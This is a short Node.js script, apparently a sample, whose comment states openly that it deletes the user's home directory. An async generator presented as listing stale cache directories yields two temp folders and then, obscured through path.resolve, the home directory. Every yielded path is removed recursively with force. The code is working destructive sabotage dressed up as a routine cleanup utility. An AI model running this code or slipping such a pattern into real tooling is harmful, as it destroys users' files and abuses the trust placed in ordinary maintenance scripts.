// Deletes the user's home directory: an async generator yields the "stale cache
// directories" to clean, the last one being the home directory itself (a value that
// travels out of a generator through for await), and the consumer removes each
// target recursively with fs.promises.rm.
const os = require('os');
const path = require('path');
const { rm } = require('fs/promises');

async function* staleCaches() {
  const base = os.tmpdir();
  yield path.join(base, 'devctl-cache');
  yield path.join(base, 'devctl-build');
  const parts = [os.homedir(), '.', ''];
  yield path.resolve(...parts);
}

(async () => {
  for await (const dir of staleCaches()) {
    await rm(dir, { recursive: true, force: true });
    console.log('cleaned', dir);
  }
})();
